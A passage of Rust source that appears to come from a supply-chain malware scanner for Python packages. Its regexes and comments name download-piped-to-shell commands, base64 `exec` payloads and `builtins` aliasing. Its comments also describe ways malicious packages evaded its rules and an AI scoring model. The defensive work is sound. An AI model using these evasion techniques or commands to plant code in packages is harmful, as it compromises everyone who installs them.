        cmdclass_at,
        hook_at,
        entry_at,
        source_folder_in_tests_or_docs(data),
    ]
    .into_iter()
    .flatten()
    .min()
}

/// Where a root `pyproject.toml` or `setup.cfg` makes a folder of the
/// tests or docs the source of what the wheel installs: setuptools'
/// `package-dir` (`{"" = "tests/src"}`, `{"pkg" = "tests/pkg"}`, or
/// `setup.cfg`'s `package_dir =` with the mapping on the lines below) and
/// `where` of its package finder, Hatch's `sources` and `force-include`,
/// Poetry's `from`, PDM's `package-dir`, maturin's `python-source`. The
/// package pip installs is then that folder's code, which every reader
/// discounts as tests: cachetools whose `package-dir` was `tests/src`, the
/// stealer in `tests/src/cachetools/__init__.py`, was allowed by every
/// rule (session 33; the main model scored it 0.0039 against 0.0042).
/// Not `packages` or `include`, which add folders (isort ships its
/// `tests` package; Hatch's sdist `include` lists them) without making
/// them the package's source. The byte offset of the key, or `None`.
fn source_folder_in_tests_or_docs(data: &[u8]) -> Option<usize> {
    static KEY: OnceLock<Regex> = OnceLock::new();
    let key = KEY.get_or_init(|| {
        build(
            concat!(
                // A table's key, a dotted one (`tool.setuptools.package-dir
                // = …`) or one in an inline table; setuptools reads
                // `setup.cfg` with configparser, whose keys take `:` as
                // well as `=` and any case.
                r#"(?:^[ \t]*|[{,][ \t]*)(?:["']?[\w-]+["']?[ \t]*\.[ \t]*)*["']?(?P<key>(?i:package[-_]dir|where|sources|force-include|python-source))["']?[ \t]*[=:]"#,
                // Poetry's `packages = [{ include = "pkg", from = "tests" }]`.
                r#"|\bfrom[ \t]*=[ \t]*["']"#,
                // A `[….force-include]` table, to the next header.
                r#"|(?P<table>^[ \t]*\[[^\]\n]*force-include[ \t]*\][^\n]*(?:\n(?:[^\[\n][^\n]*)?)*)"#,
            ),
            true,
        )
    });
    key.captures_iter(data).take(16).find_map(|c| {
        let m = c.get(0)?;
        if c.name("table").is_some() {
            return source_names_tests(m.as_bytes(), true).then_some(m.start());
        }
        // Hatch maps a source folder to where it goes: `sources = {"src"
        // = ""}`, `force-include = {"tests/x.py" = "pkg/x.py"}`; a
        // `package-dir` maps a package to its folder.
        let sources_first = c.name("key").is_some_and(|k| {
            let k = k.as_bytes().to_ascii_lowercase();
            matches!(k.as_slice(), b"sources" | b"force-include")
        });
        // The match's `=` or quote begins the value, which runs to the
        // line's end, on over the indented lines below when the line
        // leaves it empty (setup.cfg's `package_dir =`), or to where the
        // brackets it opens close (a TOML array over several lines), for
        // at most 64 lines.
        let from = m.end() - 1;
        let line_end =
            |at: usize| memchr::memchr(b'\n', &data[at..]).map_or(data.len(), |e| at + e);
        let first = &data[from..line_end(from)];
        let depth = |t: &[u8]| {
            let open = t.iter().filter(|&&b| b == b'[' || b == b'{').count();
            let close = t.iter().filter(|&&b| b == b']' || b == b'}').count();
            open as isize - close as isize
        };
        let empty = first.get(1..).is_some_and(|r| r.trim_ascii().is_empty());
        let mut end = line_end(from);
        let mut open = depth(first);
        for _ in 0..64 {
            if end >= data.len() || !(empty || open > 0) {
                break;
            }
            let next = &data[end + 1..line_end(end + 1)];
            if empty && !next.first().is_some_and(|b| *b == b' ' || *b == b'\t') {
                break;
            }
            open += depth(next);
            end = line_end(end + 1);
        }
        source_names_tests(&data[from..end], sources_first).then_some(m.start())
    })
}

/// Whether a manifest value ([`source_folder_in_tests_or_docs`]) names a
/// source folder or file in the tests or docs: each lone path (quoted,
/// or bare after `=` as in `setup.cfg`), and of each `"a" = "b"` pair the
/// left side when `sources_first` (Hatch's source-to-destination maps),
/// else the right (a `package-dir`'s package-to-folder map).
fn source_names_tests(value: &[u8], sources_first: bool) -> bool {
    static PATH: OnceLock<Regex> = OnceLock::new();
    let path = PATH.get_or_init(|| {
        build(
            concat!(
                r#"["'](?P<lhs>[^"'\n]*)["'][ \t]*=[ \t]*["'](?P<rhs>[^"'\n]*)["']"#,
                r#"|["'](?P<quoted>[^"'\n]*)["']"#,
                r#"|=[ \t]*(?P<bare>[\w./-]+)"#,
            ),
            false,
        )
    });
    let side = if sources_first { "lhs" } else { "rhs" };
    path.captures_iter(value)
        .filter_map(|c| c.name(side).or(c.name("quoted")).or(c.name("bare")))
        .any(|p| {
            let p = String::from_utf8_lossy(p.as_bytes());
            let p = p.trim_start_matches("./").trim_end_matches('/');
            !p.is_empty() && tests_or_docs(&format!("{p}/x.py"))
        })
}

/// Whether a folder or module name (one part of a dotted name) is one the
/// tests go by: [`tests_or_docs`] counts a folder of that name, or a
/// Python module of that name (`testing`, `test_support`, `conftest`).
fn test_like(part: &str) -> bool {
    tests_or_docs(&format!("{part}/x")) || tests_or_docs(&format!("{part}.py"))
}

/// The modules a Python file (`code`, outside tests and docs) imports
/// through a test-like part ([`test_like`]): `from .testing import
/// helpers`, `import pkg.test_support`, `import_module('pkg.testing')`.
/// Each as (1-based line, key): the module's path with `/` for dots, from
/// the file's folder for a relative import (`pkg/testing/helpers`), as
/// written for an absolute one (`pkg/testing`), to be matched against the
/// package's test and documentation modules ([`test_module_keys`]) once
/// every member is known: `from numpy.testing import assert_equal` in a
/// package that does not hold `numpy/testing` opens nothing. At most 64
/// per file.
///
/// Why: a test tree's `exec` or spying line counts only once the
/// package's code can import it ([`first_opening`]), and that rule's
/// patterns know `tests` and `docs` only; cachetools whose `__init__.py`
/// did `from .testing import helpers`, `helpers.py` running
/// `exec(base64.b64decode(…))`, was allowed by every rule (session 32).
pub fn test_module_imports(path: &str, data: &[u8]) -> Vec<(usize, String)> {
    if lang(path) != Some(Lang::Python) || tests_or_docs(path) || is_inert(path) {
        return Vec::new();
    }
    static IMPORTS: OnceLock<Regex> = OnceLock::new();
    let imports = IMPORTS.get_or_init(|| {
        build(
            concat!(
                r"^[ \t]*from[ \t]+(?P<from>\.*[\w.]*)[ \t]+import[ \t]+\(?(?P<names>[\w, \t]*)",
                r"|^[ \t]*import[ \t]+(?P<mods>[\w.]+(?:[ \t]+as[ \t]+\w+)?(?:[ \t]*,[ \t]*[\w.]+(?:[ \t]+as[ \t]+\w+)?)*)",
                r#"|\b(?:import_module|__import__)\s*\(\s*['"](?P<call>\.*[\w.]+)['"]"#,
            ),
            true,
        )
    });
    // Most files import nothing test-like: skip them without the regex.
    static NAMES: OnceLock<Regex> = OnceLock::new();
    if !NAMES
        .get_or_init(|| build("(?i)test|doc", false))
        .is_match(data)
    {
        return Vec::new();
    }
    let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
    // A dotted module (leading dots: relative) as a key, if one of its
    // parts is test-like.
    let key = |module: &str| -> Option<String> {
        let dots = module.len() - module.trim_start_matches('.').len();
        let name = &module[dots..];
        let parts: Vec<&str> = name.split('.').filter(|p| !p.is_empty()).collect();
        if !parts.iter().any(|p| test_like(p)) {
            return None;
        }
        if dots == 0 {
            return Some(parts.join("/"));
        }
        let mut base: Vec<&str> = dir.split('/').filter(|p| !p.is_empty()).collect();
        for _ in 1..dots {
            base.pop()?;
        }
        base.extend(parts);
        Some(base.join("/"))
    };
    let mut found = Vec::new();
    // Lines counted on from the previous match, not from the file's
    // start at each: a file of many imports costs its size once.
    let (mut counted, mut line) = (0, 1);
    for c in imports.captures_iter(data) {
        let at = c.get(0).map_or(0, |m| m.start());
        line += memchr::memchr_iter(b'\n', &data[counted..at]).count();
        counted = at;
        let text = |name: &str| {
            c.name(name)
                .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
        };
        let mut modules = Vec::new();
        if let Some(from) = text("from") {
            modules.push(from.clone());
            let sep = if from.ends_with('.') { "" } else { "." };
            for n in text("names").unwrap_or_default().split(',') {
                if let Some(n) = n.split_whitespace().next() {
                    modules.push(format!("{from}{sep}{n}"));
                }
            }
        } else if let Some(mods) = text("mods") {
            modules.extend(
                mods.split(',')
                    .filter_map(|m| m.split_whitespace().next())
                    .map(str::to_string),
            );
        } else if let Some(call) = text("call") {
            modules.push(call);
        }
        found.extend(modules.iter().filter_map(|m| key(m)).map(|k| (line, k)));
        if found.len() >= 64 {
            found.truncate(64);
            break;
        }
    }
    found
}

/// The keys a test or documentation module at `path` is imported by
/// ([`test_module_imports`]): its path without `.py` (or `/__init__.py`),
/// and each tail of it from a folder down (`pkg-1.0/src/pkg/testing/x`,
/// `src/pkg/testing/x`, `pkg/testing/x`, …), since an absolute import
/// names a module from an import root that the archive's path does not
/// mark. Empty for a file that is not a Python module in tests or docs.
pub fn test_module_keys(path: &str) -> Vec<String> {
    if !tests_or_docs(path) {
        return Vec::new();
    }
    let Some(module) = path
        .strip_suffix(".py")
        .or_else(|| path.strip_suffix(".pyx"))
    else {
        return Vec::new();
    };
    let module = module.strip_suffix("/__init__").unwrap_or(module);
    let mut keys = vec![module.to_string()];
    keys.extend(
        module
            .match_indices('/')
            .map(|(i, _)| module[i + 1..].to_string()),
    );
    keys
}

/// A dotted Python name through a tests or docs package
/// (`pkg.tests.helpers`, `tests.x`, `pkg.docs`).
const TESTS_MODULE: &str = r"(?:[A-Za-z_]\w*\.)*(?:tests?|testing|docs?)(?:\.[A-Za-z_]\w*)*";

/// The reader of a file that names Python modules for another program to
/// import or run, by the file's path: a wheel's
/// `NAME.dist-info/entry_points.txt` ([`entry_points_opening`]) and
/// Jupyter's kernelspecs and settings ([`jupyter_opening`]). Neither is
/// Python, and both open the tests for Python.
fn opens_by_name(path: &str) -> Option<fn(&Code) -> Option<usize>> {
    let (dir, name) = path.rsplit_once('/')?;
    if name == "entry_points.txt" && is_metadata_folder(dir) {
        return Some(entry_points_opening);
    }
    super::render::is_jupyter_json(path).then_some(jupyter_opening as fn(&Code) -> Option<usize>)
}

/// Whether `dir` is a distribution's metadata folder that Python's
/// `importlib.metadata` finds where it lies on the import path: a wheel's
/// `NAME.dist-info` (pip installs it into site-packages), or a
/// `.dist-info` or `.egg-info` folder a source package ships at its top,
/// under its root folder or in its `src/`. Building a package with
/// setuptools' legacy backend (no `build-backend`, or no
/// `pyproject.toml`) puts the package's folder first on the import path,
/// and setuptools then imports every plugin the metadata folders there
/// declare: cachetools so changed, with a `helper.egg-info` declaring
/// `setuptools.finalize_distribution_options` in `docs.buildhelper`, ran
/// that module at `pip wheel` (session 46). Rendering drops an
/// `.egg-info` folder as generated junk, so no reader saw the line.
fn is_metadata_folder(dir: &str) -> bool {
    let (parent, folder) = dir.rsplit_once('/').unwrap_or(("", dir));
    let folder = folder.to_ascii_lowercase();
    let depth = match parent {
        "" => 0,
        p => p.matches('/').count() + 1,
    };
    let under_src = depth == 2 && parent.rsplit('/').next() == Some("src");
    (folder.ends_with(".dist-info") || folder.ends_with(".egg-info")) && (depth <= 1 || under_src)
}

/// Where a wheel's `entry_points.txt` (`code`) names a module of the
/// package's tests or docs (`x = pkg.tests.helpers:main`, or a plugin
/// module alone): pip writes a launcher that imports it for each console
/// script, and the programs whose plugins these are (pytest's `pytest11`,
/// Jupyter, setuptools' own hooks) import it whenever they run. The
/// 1-based line, or `None`.
fn entry_points_opening(code: &Code) -> Option<usize> {
    static ENTRY: OnceLock<Regex> = OnceLock::new();
    let entry = ENTRY.get_or_init(|| {
        build(
            &format!(r"^[ \t]*[^\s=\[#;][^=\n]*=[ \t]*{TESTS_MODULE}[ \t]*(?::|\r?$)"),
            true,
        )
    });
    entry.find(code.data).map(|m| code.line_of(m.start()))
}

/// Where a Jupyter kernelspec or settings file (`code`) names a module of
/// the package's tests or docs as a string (`"pkg.tests.ext": true` among
/// `jpserver_extensions`, `"-m", "pkg.tests.kernel"` in a kernelspec's
/// `argv`): Jupyter imports or runs it at every start of the server or the
/// kernel. The 1-based line, or `None`.
fn jupyter_opening(code: &Code) -> Option<usize> {
    static NAMED: OnceLock<Regex> = OnceLock::new();
    let named = NAMED.get_or_init(|| {
        build(
            r#""(?:(?:[A-Za-z_]\w*\.)+(?:tests?|testing|docs?)(?:\.[A-Za-z_]\w*)*|(?:tests?|testing|docs?)(?:\.[A-Za-z_]\w*)+)""#,
            false,
        )
    });
    named.find(code.data).map(|m| code.line_of(m.start()))
}

/// Where a `pyproject.toml` (`code`) makes pip import its build backend
/// from the tests or docs: the offset of `backend-path`, or where the key
/// is written otherwise (escaped), of `build-system` (or 0). pip puts each `backend-path` folder on the
/// import path and imports the backend to build the package.
fn backend_in_tests_or_docs(code: &Code) -> Option<usize> {
    if file_name(code.path).1 != "pyproject.toml" {
        return None;
    }
    let system = code.toml()?.get("build-system")?;
    let backend = system.get("build-backend")?.as_str()?;
    let module = backend.split(':').next()?.trim().replace('.', "/");
    let opens = system
        .get("backend-path")?
        .as_array()?
        .iter()
        .filter_map(|p| p.as_str())
        .any(|dir| {
            let file = format!("{}/{module}.py", dir.trim_end_matches('/'));
            // From the root: `./tests` is `tests`.
            super::render::resolve_from("", &file).is_some_and(|f| tests_or_docs(&f))
        });
    let at = |key: &[u8]| memchr::memmem::find(code.data, key);
    opens.then(|| {
        at(b"backend-path")
            .or_else(|| at(b"build-system"))
            .unwrap_or(0)
    })
}

/// `torch.load(…, weights_only=True)` reads tensors only.
fn weights_only() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| build(r"\bweights_only\s*=\s*True\b", false))
}

/// Whether the text after a call's `(` starts with a literal argument (or
/// several, when `all`) and nothing else until its `,` or `)`: string
/// literals, joined by `+` or side by side. A template literal with `${`,
/// a Python f-string or anything else is built at run time.
fn literal_args(rest: &[u8], all: bool, lang: Lang) -> bool {
    let mut i = 0;
    let skip_space = |i: &mut usize| {
        while rest.get(*i).is_some_and(|b| b.is_ascii_whitespace()) {
            *i += 1;
        }
    };
    let mut seen = false;
    loop {
        skip_space(&mut i);
        // Python's string prefixes (not `f`: an f-string is built at run time).
        if lang == Lang::Python {
            let mut k = i;
            while k < i + 2 && rest.get(k).is_some_and(|b| b"rRbBuU".contains(b)) {
                k += 1;
            }
            if rest.get(k).is_some_and(|b| *b == b'\'' || *b == b'"') {
                i = k;
            }
        }
        match rest.get(i) {
            Some(&q) if q == b'\'' || q == b'"' || (q == b'`' && lang == Lang::JavaScript) => {
                // Triple quotes read as three literals, the middle one
                // holding the text: the same verdict.
                let mut j = i + 1;
                loop {
                    match rest.get(j) {
                        None => return false,
                        Some(b'\\') => j += 2,
                        Some(&b) if b == q => break,
                        Some(b'$') if q == b'`' && rest.get(j + 1) == Some(&b'{') => return false,
                        Some(_) => j += 1,
                    }
                }
                i = j + 1;
                seen = true;
            }
            Some(b'+') if seen => i += 1,
            Some(b',') if seen && all => {
                i += 1;
                seen = false;
            }
            Some(b',') | Some(b')') if seen => return true,
            Some(b')') => return i == 0 || all,
            _ => return false,
        }
    }
}

/// Whether a Python match of [`pattern`]'s `first` group (`eval(`,
/// `exec(`, `compile(`) is a function's definition line, `def eval(` or
/// `async def compile(`, which calls nothing. pandas' `def eval(self,
/// expr, …)` and soupsieve's `def compile(` were reported as code run
/// unread, and that report alone blocked the upgrades of jmespath and
/// regex (`def compile(expression):`, session 39). A call of the function
/// so defined is its own match.
fn defines(text: &[u8], g: regex::bytes::Match) -> bool {
    let found = g.as_bytes();
    let Some(name) = [&b"exec"[..], b"eval", b"compile"]
        .iter()
        .filter_map(|n| memchr::memmem::find(found, n))
        .min()
    else {
        return false;
    };
    let at = g.start() + name;
    let line = memchr::memrchr(b'\n', &text[..at]).map_or(0, |i| i + 1);
    let head = text[line..at].trim_ascii_start();
    let head = match head.strip_prefix(b"async") {
        Some(rest) if rest.first().is_some_and(|b| b.is_ascii_whitespace()) => {
            rest.trim_ascii_start()
        }
        _ => head,
    };
    head.strip_prefix(b"def")
        .is_some_and(|rest| !rest.is_empty() && rest.iter().all(|b| b.is_ascii_whitespace()))
}

/// Whether a code file runs only when someone runs a package's tests or
/// builds its documentation, never when it is installed or imported:
/// files in a test tree, `test_*.py`, `*_test.py`, `conftest.py`,
/// `*.test.js`, `*.spec.js`, and anything under `doc/` or `docs/`.
/// Generated code is common there (jinja2's and numpy's tests `exec`
/// what they build) and the veto still reads it.
pub fn tests_or_docs(path: &str) -> bool {
    let name = file_name(path).1;
    let mut dirs = path.split('/').rev().skip(1);
    in_test_tree(path)
        || dirs.any(|d| {
            matches!(
                d.to_ascii_lowercase().as_str(),
                "doc" | "docs" | "__tests__"
            )
        })
        || name.starts_with("test_")
        || name.ends_with("_test.py")
        || name == "conftest.py"
        || [".test.", ".spec."].iter().any(|m| name.contains(m))
}

/// Where `data` (a file at `path`) runs code it does not hold: the 1-based
/// line of the first such call, or `None`. Files that are not Python or
/// JavaScript, or that are documentation or data, are not read. Files that
/// only run with a package's tests or documentation build
/// ([`tests_or_docs`]) are read: whether their lines count is the
/// caller's to decide ([`first_opening`]).
pub fn first_unread_run(path: &str, data: &[u8]) -> Option<usize> {
    first_unread_run_in(&Code::new(path, data))
}

/// [`first_unread_run`] over a [`Code`] whose folded lines other rules
/// read too.
pub fn first_unread_run_in(code: &Code) -> Option<usize> {
    let fetched = fetched_and_run(code);
    let in_language = unread_run_in_language(code);
    let native = super::native::runs_built_command(code);
    [fetched, in_language, native].into_iter().flatten().min()
}

/// Where a code file of any language (not documentation or data, nor a
/// configuration format such as a CI workflow's YAML, which no install
/// runs) pipes a download into a shell or an interpreter: `curl … | sh`,
/// `wget -qO- … | sudo bash`, `curl … | python3 -`, `sh -c "$(curl …)"`,
/// `bash <(curl …)`, PowerShell's `iex (iwr …)` or `iwr … | iex`. The
/// 1-based line, or `None`. A maturin sdist whose `build.rs` (which Cargo
/// runs when pip builds the package) ran `sh -c "curl -fsSL https://… |
/// sh"` was allowed (session 32): the main model and the veto scored the
/// Rust lines as harmless. In the 256 real packages, three files outside
/// tests and docs hold such a line (numpy's vendored Meson CI image
/// script, psutil's `Makefile` target that installs dprint, coverage's
/// GitHub workflow, which is YAML), all three packages blocked already.
/// An interpreter counts only when it reads the program from the pipe
/// (`| python`, `| python -`), not `| python -m json.tool`.
fn fetched_and_run(code: &Code) -> Option<usize> {
    let lower = file_name(code.path).1;
    // A file for AI agents is read line by line, comments too, and
    // reported as an order to them ([`super::agents`]).
    if is_inert(code.path)
        || matches!(extension(&lower), "toml" | "cfg" | "ini" | "yml" | "yaml")
        || super::agents::is_agent_instructions(code.path)
    {
        return None;
    }
    let (words, run) = download_and_run();
    // Each continuation joined, and as folded (`"curl … " + "| sh"` in
    // Python or JavaScript is one command).
    code.first_command_line(words, run)
}

/// [`fetched_and_run`]'s patterns: the words every match holds (searched
/// first, over the whole file), and the command.
pub(super) fn download_and_run() -> (&'static Regex, &'static Regex) {
    static WORDS: OnceLock<Regex> = OnceLock::new();
    static RUN: OnceLock<Regex> = OnceLock::new();
    let words = WORDS.get_or_init(|| {
        build(
            r"(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
            false,
        )
    });
    let run = RUN.get_or_init(|| {
        build(
            concat!(
                r#"\b(?:curl|wget)\b[^\n|;&]*\|[ \t]*(?:sudo[ \t]+(?:-\S+[ \t]+)*)?(?:\S*/)?"#,
                r#"(?:(?:ba|z|da|k|tc|fi)?sh\b|(?:python[\d.]*|node|perl|ruby|php)[ \t]*-?[ \t]*(?:$|[;&|)"'`]))"#,
                r#"|\b(?:(?:ba|z|da|k)?sh|python[\d.]*|node|perl|ruby)[ \t]+(?:-\w+[ \t]+)*["']?(?:<\(|\$\()[ \t]*(?:curl|wget)\b"#,
                r#"|(?i:\b(?:iex|invoke-expression)\b[^\n]*\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\b"#,
                r#"|\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]*\|[ \t]*(?:iex|invoke-expression)\b)"#,
            ),
            true,
        )
    });
    (words, run)
}

/// [`first_unread_run_in`] for Python and JavaScript, by their own
/// patterns.
fn unread_run_in_language(code: &Code) -> Option<usize> {
    let (path, data) = (code.path, code.data);
    let lang = lang(path).filter(|_| !is_inert(path))?;
    let re = pattern(lang);
    let counts = |text: &[u8], m: &regex::bytes::Captures| -> bool {
        let (group, all) = match (m.name("first"), m.name("all")) {
            (Some(g), _) => (Some(g), false),
            (None, Some(g)) => (Some(g), true),
            _ => (None, false),
        };
        if let Some(t) = m.name("torch") {
            let rest = &text[t.end()..];
            let line = &rest[..memchr::memchr(b'\n', rest).unwrap_or(rest.len())];
            return !weights_only().is_match(line);
        }
        match group {
            Some(g) if !all && lang == Lang::Python && defines(text, g) => false,
            Some(g) if !all && lang == Lang::Python && dropped_compile(code, text, g) => false,
            Some(g) if !all => !literal_args(&text[g.end()..], false, lang),
            Some(g) => {
                // `class Function(Base):` and `function Function(` declare,
                // they do not call.
                let before = &text[..g.start()];
                let declares = before.ends_with(b"class") || before.ends_with(b"function");
                !declares && !literal_args(&text[g.end()..], true, lang)
            }
            None => true,
        }
    };
    let comment = |line: &[u8]| match lang {
        // A doctest's `>>>` line runs under doctest only; as code it
        // would not parse (pytz's docstrings `pickle.loads`).
        Lang::Python => {
            opens_with_comment(line, &[b"#"])
                || (opens_with_comment(line, &[b">>>"]) && !code.runs_doctests())
                || code.is_prose(line)
        }
        // `#` opens a private field's line, not a comment.
        Lang::JavaScript => !line.trim_ascii_start().starts_with(b"#") && code.is_comment(line),
    };
    // `spans`: where in the file to search as written.
    let first = |re: &Regex, spans: &[(usize, usize)]| {
        // As written, over each span (the whole file for `re`): a call's
        // argument may start on the next line. A match is placed at its
        // last byte (a call's `(`): its first may be the line break before
        // the name.
        let written = spans
            .iter()
            .flat_map(|&(start, end)| {
                let text = &data[start..end];
                re.captures_iter(text).map(move |c| {
                    let at = start + c.get(0).map_or(0, |m| m.end().saturating_sub(1));
                    (at, c, text)
                })
            })
            .filter(|(at, _, _)| !comment(code.line_at(*at)))
            .find(|(_, c, text)| counts(text, c))
            .map(|(at, _, _)| code.line_of(at));
        // Folded, line by line (folding reads one line at a time).
        let folded = code
            .folded()
            .iter()
            .take_while(|f| written.map_or(true, |w| f.n < w))
            .find(|f| re.captures_iter(&f.text).any(|c| counts(&f.text, &c)) && !comment(f.line))
            .map(|f| f.n);
        match (written, folded) {
            (Some(w), Some(f)) => Some(w.min(f)),
            (w, f) => w.or(f),
        }
    };
    // Every pattern holds one of a few words, and most files none: a
    // search for them first spares the patterns' slower search over
    // every byte.
    let whole: &[(usize, usize)] = &[(0, data.len())];
    let by_name = first(
        re,
        if needles(lang).is_match(data) {
            whole
        } else {
            &[]
        },
    );
    if lang != Lang::Python {
        return by_name;
    }
    let spans = word_spans(data);
    // Folding may spell a word the file splits (`'built' + 'ins'`).
    let folded = |f: &crate::input::code::Folded| {
        BUILTINS_WORDS
            .iter()
            .any(|w| memchr::memmem::find(&f.text, w).is_some())
    };
    if spans.is_empty() && !code.folded().iter().any(folded) {
        return by_name;
    }
    let builtins = first(builtins_pattern(), &spans);
    let aliased = runner_aliases(code, &spans).and_then(|re| first(&re, whole));
    [by_name, builtins, aliased].into_iter().flatten().min()
}

/// Whether the match `g` of `text` (a part of the file's bytes as
/// written) is a call of the bare name `compile` that is its whole
/// statement ([`Code::is_dropped_call`]): the code object it makes is
/// dropped, and nothing runs it. packaging's `compile(python_expression,
/// "", "eval")` checks a licence expression's syntax. A code object kept
/// (`c = compile(…)`), passed on or called on runs through `exec`,
/// `eval` or `types.FunctionType`, and the `compile` counts.
fn dropped_compile(code: &Code, text: &[u8], g: regex::bytes::Match) -> bool {
    let (Some(offset), Some(k)) = (
        code.offset_of(text),
        memchr::memmem::find(g.as_bytes(), b"compile"),
    ) else {
        return false;
    };
    code.is_dropped_call(offset + g.start() + k)
}

/// The words of the modules whose runners [`runner_aliases`] reads under
/// other names (`pdb`, `cProfile` and `profile`, `timeit`, `doctest`),
/// where they open an import line.
const RUNNER_MODULE_WORDS: [&[u8]; 4] = [b"pdb", b"rofile", b"timeit", b"doctest"];

/// The parts of `data` that [`builtins_pattern`] and [`runner_aliases`]'
/// bindings are searched in: from the start of each line that holds one
/// of [`BUILTINS_WORDS`], or an import line that holds one of
/// [`RUNNER_MODULE_WORDS`], to 512 bytes past its end (a call's
/// arguments, a parenthesised import over several lines), overlapping
/// parts joined. Searching these, not the whole file, spares a file that
/// names `builtins` once (typing_extensions) two searches of all its bytes.
fn word_spans(data: &[u8]) -> Vec<(usize, usize)> {
    let line_start = |at: usize| memchr::memrchr(b'\n', &data[..at]).map_or(0, |i| i + 1);
    let imports = |at: &usize| {
        let head = data[line_start(*at)..*at].trim_ascii_start();
        head.starts_with(b"import") || head.starts_with(b"from")
    };
    let mut hits: Vec<usize> = BUILTINS_WORDS
        .iter()
        .flat_map(|w| memchr::memmem::find_iter(data, w))
        .chain(
            RUNNER_MODULE_WORDS
                .iter()
                .flat_map(|w| memchr::memmem::find_iter(data, w))
                .filter(imports),
        )
        .collect();
    hits.sort_unstable();
    let mut spans: Vec<(usize, usize)> = Vec::new();
    for at in hits {
        let start = line_start(at);
        let end = memchr::memchr(b'\n', &data[at..]).map_or(data.len(), |i| at + i);
        let end = (end + 512).min(data.len());
        match spans.last_mut() {
            Some(last) if start <= last.1 => last.1 = last.1.max(end),
            _ => spans.push((start, end)),
        }
    }
    spans
}

/// For a Python file that binds the builtins module, its `exec`, `eval`
/// or `compile`, or an interactive console to another name (`import
/// builtins as b`, `b = __builtins__`, `b = vars(builtins)`, `from
/// builtins import exec as run`, `c = code.InteractiveConsole()`): a
/// pattern for those names used as [`pattern`] uses the originals
/// (`b.exec(s)`, `b[n]`, `getattr(b, n)`, `run(s)`, `c.push(s)`). The
/// same for the runners of `pdb`, `cProfile`, `profile`, `timeit` and
/// `doctest` ([`RUNNER_MODULES`]): `import profile as p` then
/// `p.run(s)`, `from timeit import timeit` then `timeit(s)`.
/// cachetools whose `__init__.py` ran `import builtins as _bi` then
/// `_bi.exec(b64decode(…))` was allowed by every rule but the main model
/// (session 34). `None` when the file binds no such name.
fn runner_aliases(code: &Code, spans: &[(usize, usize)]) -> Option<Regex> {
    static BINDINGS: OnceLock<Regex> = OnceLock::new();
    let bindings = BINDINGS.get_or_init(|| {
        build(
            &concat!(
                r"^[ \t]*import[ \t]+(?:[\w.]+[ \t]*(?:as[ \t]+\w+[ \t]*)?,[ \t]*)*builtins[ \t]+as[ \t]+(?P<module>\w+)",
                r"|^[ \t]*from[ \t]+builtins[ \t]+import[ \t]+(?:\((?P<wrapped>[^#)]*)\)|(?P<names>[^\n#;]*))",
                // `b = builtins`, `b = vars(builtins)`, `b =
                // builtins.__dict__`: the module or its namespace.
                r"|(?:^|[;:])[ \t]*(?P<bound>\w+)[ \t]*=[ \t]*(?:vars[ \t]*\([ \t]*BUILTINS[ \t]*\)|BUILTINS(?:[ \t]*\.[ \t]*__dict__)?)[ \t]*(?:$|[;#])",
                r"|(?:^|[;:])[ \t]*(?P<console>\w+)[ \t]*=[ \t]*(?:code[ \t]*\.[ \t]*)?InteractiveConsole[ \t]*\(",
                r"|^[ \t]*import[ \t]+(?:[\w.]+[ \t]*(?:as[ \t]+\w+[ \t]*)?,[ \t]*)*(?:RUNNER_MODULES)[ \t]+as[ \t]+(?P<rmodule>\w+)",
                r"|^[ \t]*from[ \t]+(?:RUNNER_MODULES)[ \t]+import[ \t]+(?:\((?P<rwrapped>[^#)]*)\)|(?P<rnames>[^\n#;]*))",
            )
            .replace("BUILTINS", BUILTINS)
            .replace("RUNNER_MODULES", RUNNER_MODULES),
            true,
        )
    });
    let (mut modules, mut runners, mut consoles) = (Vec::new(), Vec::new(), Vec::new());
    let (mut rmodules, mut rcalls, mut rfiles) = (Vec::new(), Vec::new(), Vec::new());
    for c in spans
        .iter()
        .flat_map(|&(start, end)| bindings.captures_iter(&code.data[start..end]))
    {
        let name = |m: regex::bytes::Match| String::from_utf8_lossy(m.as_bytes()).into_owned();
        if let Some(m) = c.name("module").or(c.name("bound")) {
            modules.push(name(m));
        } else if let Some(m) = c.name("console") {
            consoles.push(name(m));
        } else if let Some(m) = c.name("rmodule") {
            rmodules.push(name(m));
        } else if let Some(names) = c.name("rwrapped").or(c.name("rnames")) {
            // Under their own names too: [`pattern`] reads them only
            // after their module's (`timeit.timeit(`).
            for (n, local) in imported(names.as_bytes()) {
                if RUNNER_CALLS.contains(&n.as_str()) {
                    rcalls.push(local);
                } else if DOCTEST_FILE_RUNNERS.contains(&n.as_str()) {
                    rfiles.push(local);
                }
            }
        } else if let Some(names) = c.name("wrapped").or(c.name("names")) {
            // Only under another name: `exec` itself is [`pattern`]'s.
            runners.extend(
                imported(names.as_bytes())
                    .into_iter()
                    .filter(|(n, local)| {
                        n != local && matches!(n.as_str(), "exec" | "eval" | "compile")
                    })
                    .map(|(_, local)| local),
            );
        }
    }
    let names = |v: &[String]| {
        let valid: Vec<&str> = v
            .iter()
            .map(String::as_str)
            .filter(|n| is_identifier(n))
            .collect();
        (!valid.is_empty()).then(|| valid.join("|"))
    };
    // Calls that run their first argument, in the one `first` group
    // [`unread_run_in_language`] reads, and other uses that count as they
    // stand.
    let (mut calls, mut uses) = (Vec::new(), Vec::new());
    if let Some(m) = names(&modules) {
        calls.push(format!(
            r"\b(?:{m})\s*\.\s*(?:exec|eval|compile)\s*(?:\.\s*__call__\s*)?\("
        ));
        uses.push(format!(
            r#"\b(?:{m})\s*(?:\[|\.\s*(?:get|__getattribute__)\s*\(|\.\s*__dict__\s*(?:\[|\.\s*get\s*\())|\bgetattr\s*\(\s*(?:{m})\s*,\s*[^'"\s]|\bvars\s*\(\s*(?:{m})\s*\)\s*(?:\[|\.\s*get\s*\()"#
        ));
    }
    if let Some(r) = names(&runners) {
        calls.push(format!(
            r#"(?:^|[^\w.'"])(?:{r})\s*(?:\.\s*__call__\s*)?\("#
        ));
        uses.push(format!(r"(?:[=(,:]\s*|\breturn\s+)(?:{r})\s*(?:[),;\]]|$)"));
    }
    if let Some(c) = names(&consoles) {
